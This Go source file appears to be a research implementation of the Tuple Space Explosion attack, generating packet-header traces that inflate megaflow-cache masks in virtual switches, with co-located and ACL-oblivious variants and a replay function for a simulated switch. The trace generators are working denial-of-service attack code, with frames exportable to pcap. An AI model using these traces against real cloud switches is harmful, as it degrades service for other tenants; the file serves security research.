// Package core implements the paper's primary contribution: the Tuple
// Space Explosion (TSE) attack.
//
// The attack inflates the number of distinct masks in a TSS megaflow cache
// by sending packets whose slow-path classification spawns megaflows with
// previously unseen masks. Two variants differ in what the adversary knows
// (§3.3):
//
//   - Co-located TSE (§5): the adversary knows the ACL (e.g. installed it
//     for her own leased workload) and crafts the minimal packet sequence
//     that spawns every attainable mask, via per-field bit inversion and an
//     outer product across fields (§5.1).
//
//   - General TSE (§6): the adversary knows nothing and sends packets with
//     uniformly random values in the header fields tenant ACLs plausibly
//     filter on. Package analysis computes the expected mask counts
//     (Eq. 1–2); this package generates the traces.
//
// Traces are plain header sequences over a bitvec.Layout; package packet
// turns them into wire-format frames and package pcap stores them.
package core

import (
	"fmt"
	"math/rand"

	"tse/internal/bitvec"
	"tse/internal/flowtable"
	"tse/internal/vswitch"
)

// Trace is an adversarial packet sequence at the classifier-key level.
type Trace struct {
	// Layout is the header layout all Headers share.
	Layout *bitvec.Layout
	// Headers are the packet headers in send order.
	Headers []bitvec.Vec
}

// Len returns the number of packets.
func (t *Trace) Len() int { return len(t.Headers) }

// Target is one single-field exact-match allow rule extracted from an ACL:
// the unit the bit-inversion generator works on.
type Target struct {
	// Field is the layout field index the rule matches on.
	Field int
	// RuleName names the source rule (diagnostics).
	RuleName string
}

// ExtractTargets inspects an ACL and returns the single-field exact-match
// allow rules in priority order — the structure the co-located attack
// exploits ("a logical OR relation between the allow rules on more header
// fields ... create[s] an AND connection on the drop rule", §3.2). An
// error is returned if an allow rule is not a single-field exact match,
// since the bit-inversion construction is defined for those (the paper's
// practical ACLs, Fig. 6, all have this shape).
func ExtractTargets(tbl *flowtable.Table) ([]Target, bitvec.Vec, error) {
	l := tbl.Layout()
	base := bitvec.NewVec(l)
	var targets []Target
	for _, r := range tbl.Rules() {
		if r.Action != flowtable.Allow {
			continue
		}
		field := -1
		for f := 0; f < l.NumFields(); f++ {
			w := l.Field(f).Width
			n := 0
			for i := 0; i < w; i++ {
				if r.Mask.FieldBit(l, f, i) {
					n++
				}
			}
			if n == 0 {
				continue
			}
			if n != w || field != -1 {
				return nil, nil, fmt.Errorf("core: allow rule %q is not a single-field exact match", r.Name)
			}
			field = f
		}
		if field == -1 {
			return nil, nil, fmt.Errorf("core: allow rule %q matches everything", r.Name)
		}
		targets = append(targets, Target{Field: field, RuleName: r.Name})
		// Record the allowed value into the base header.
		copyField(l, base, r.Key, field)
	}
	if len(targets) == 0 {
		return nil, nil, fmt.Errorf("core: ACL has no allow rules to target")
	}
	return targets, base, nil
}

// CoLocatedOptions tunes the co-located trace generator.
type CoLocatedOptions struct {
	// SkipAllowCombos drops combinations in which any targeted field holds
	// its allowed value (except the single all-allow packet). Those
	// combinations match an allow rule and mostly re-spawn existing
	// masks; the paper's mask-count estimates (§5.2: 17/256/512/8192+ε)
	// ignore them.
	SkipAllowCombos bool
	// Noise randomises header bits that cannot influence megaflow
	// generation (fields no rule constrains, and wildcard suffix bits
	// below each inverted bit), maximising header entropy to exhaust the
	// microflow cache (§5.2: "additional random noise added to
	// 'unimportant' header fields").
	Noise bool
	// Seed seeds the noise generator (deterministic traces for tests).
	Seed int64
}

// CoLocated generates the §5.1 adversarial trace for a known ACL.
//
// For each targeted field it builds the bit-inversion list — the allowed
// value, then the allowed value with each bit inverted one at a time — and
// emits the outer product across fields. Against the Fig. 1 ACL this
// produces exactly {001, 101, 011, 000}; against Fig. 6 it attains the
// maximal mask counts of §5.2.
func CoLocated(tbl *flowtable.Table, opts CoLocatedOptions) (*Trace, error) {
	targets, base, err := ExtractTargets(tbl)
	if err != nil {
		return nil, err
	}
	l := tbl.Layout()
	rng := rand.New(rand.NewSource(opts.Seed))
	free := unconstrainedFields(tbl)

	// flips[i] enumerates field i's inversion list as flip positions:
	// -1 keeps the allowed value, b >= 0 inverts bit b.
	flips := make([][]int, len(targets))
	for i, tg := range targets {
		w := l.Field(tg.Field).Width
		list := make([]int, 0, w+1)
		list = append(list, -1)
		for b := 0; b < w; b++ {
			list = append(list, b)
		}
		flips[i] = list
	}

	tr := &Trace{Layout: l}
	idx := make([]int, len(targets))
	for {
		h := base.Clone()
		allowed := 0
		for i, tg := range targets {
			flip := flips[i][idx[i]]
			if flip < 0 {
				allowed++
				continue
			}
			h.FlipFieldBit(l, tg.Field, flip)
			if opts.Noise {
				// Bits below the inverted bit are wildcarded in the
				// resulting megaflow; randomising them adds entropy
				// without changing which mask is spawned.
				w := l.Field(tg.Field).Width
				for b := flip + 1; b < w; b++ {
					if rng.Intn(2) == 1 {
						h.FlipFieldBit(l, tg.Field, b)
					}
				}
			}
		}
		if opts.Noise {
			for _, f := range free {
				randomizeField(l, h, f, rng)
			}
		}
		if !opts.SkipAllowCombos || allowed == 0 || allowed == len(targets) {
			tr.Headers = append(tr.Headers, h)
		}
		// Advance the mixed-radix counter over the outer product.
		i := 0
		for ; i < len(idx); i++ {
			idx[i]++
			if idx[i] < len(flips[i]) {
				break
			}
			idx[i] = 0
		}
		if i == len(idx) {
			break
		}
	}
	return tr, nil
}

// GeneralOptions tunes the general (ACL-oblivious) trace generator.
type GeneralOptions struct {
	// Fields names the header fields to randomise. When nil, the
	// generator randomises the fields tenant ACLs commonly filter on
	// (§5.2): ip_src, tp_src and tp_dst, insofar as the layout has them.
	Fields []string
	// Noise additionally randomises fields no tenant ACL plausibly
	// filters on (identified as: all other fields), exhausting the
	// microflow cache like the co-located variant does.
	Noise bool
	// Seed seeds the generator.
	Seed int64
}

// DefaultGeneralFields are the header fields the general attack randomises
// when the caller does not choose: the fields cloud ACL APIs let tenants
// filter on (§5.2, §7).
var DefaultGeneralFields = []string{"ip_src", "tp_src", "tp_dst"}

// General generates n random-header packets over the layout (§6.1). The
// base header supplies values for non-randomised fields (e.g. the victim's
// destination address); pass nil for all-zero.
func General(l *bitvec.Layout, base bitvec.Vec, n int, opts GeneralOptions) (*Trace, error) {
	names := opts.Fields
	if names == nil {
		for _, f := range DefaultGeneralFields {
			if _, ok := l.FieldIndex(f); ok {
				names = append(names, f)
			}
		}
	}
	if len(names) == 0 {
		return nil, fmt.Errorf("core: no fields to randomise")
	}
	fields := make([]int, len(names))
	isTarget := make(map[int]bool)
	for i, name := range names {
		f, ok := l.FieldIndex(name)
		if !ok {
			return nil, fmt.Errorf("core: layout has no field %q", name)
		}
		fields[i] = f
		isTarget[f] = true
	}
	if base == nil {
		base = bitvec.NewVec(l)
	}
	rng := rand.New(rand.NewSource(opts.Seed))
	tr := &Trace{Layout: l, Headers: make([]bitvec.Vec, 0, n)}
	for i := 0; i < n; i++ {
		h := base.Clone()
		for _, f := range fields {
			randomizeField(l, h, f, rng)
		}
		if opts.Noise {
			for f := 0; f < l.NumFields(); f++ {
				if !isTarget[f] {
					randomizeField(l, h, f, rng)
				}
			}
		}
		tr.Headers = append(tr.Headers, h)
	}
	return tr, nil
}

// ReplayStats summarises the effect of replaying a trace into a switch.
type ReplayStats struct {
	// Packets is the number of headers processed.
	Packets int
	// MasksBefore/MasksAfter bracket the MFC mask count, the attack's
	// success metric.
	MasksBefore, MasksAfter int
	// EntriesBefore/EntriesAfter bracket the MFC entry count.
	EntriesBefore, EntriesAfter int
}

// Replay drives every trace header through the switch at virtual time now,
// populating the MFC exactly as the attack would.
func Replay(sw *vswitch.Switch, tr *Trace, now int64) ReplayStats {
	st := ReplayStats{
		Packets:       tr.Len(),
		MasksBefore:   sw.MFC().MaskCount(),
		EntriesBefore: sw.MFC().EntryCount(),
	}
	for _, h := range tr.Headers {
		sw.Process(h, now)
	}
	st.MasksAfter = sw.MFC().MaskCount()
	st.EntriesAfter = sw.MFC().EntryCount()
	return st
}

// unconstrainedFields returns fields no rule of the table constrains;
// megaflow masks never include their bits, so they are free noise space.
func unconstrainedFields(tbl *flowtable.Table) []int {
	l := tbl.Layout()
	var out []int
	for f := 0; f < l.NumFields(); f++ {
		used := false
		for _, r := range tbl.Rules() {
			for i := 0; i < l.Field(f).Width; i++ {
				if r.Mask.FieldBit(l, f, i) {
					used = true
					break
				}
			}
			if used {
				break
			}
		}
		if !used {
			out = append(out, f)
		}
	}
	return out
}

// randomizeField overwrites field f of h with uniform random bits.
func randomizeField(l *bitvec.Layout, h bitvec.Vec, f int, rng *rand.Rand) {
	w := l.Field(f).Width
	for i := 0; i < w; i++ {
		if rng.Intn(2) == 1 {
			h.SetFieldBit(l, f, i)
		} else {
			h.ClearFieldBit(l, f, i)
		}
	}
}

// copyField copies field f from src into dst.
func copyField(l *bitvec.Layout, dst, src bitvec.Vec, f int) {
	w := l.Field(f).Width
	for i := 0; i < w; i++ {
		if src.FieldBit(l, f, i) {
			dst.SetFieldBit(l, f, i)
		} else {
			dst.ClearFieldBit(l, f, i)
		}
	}
}
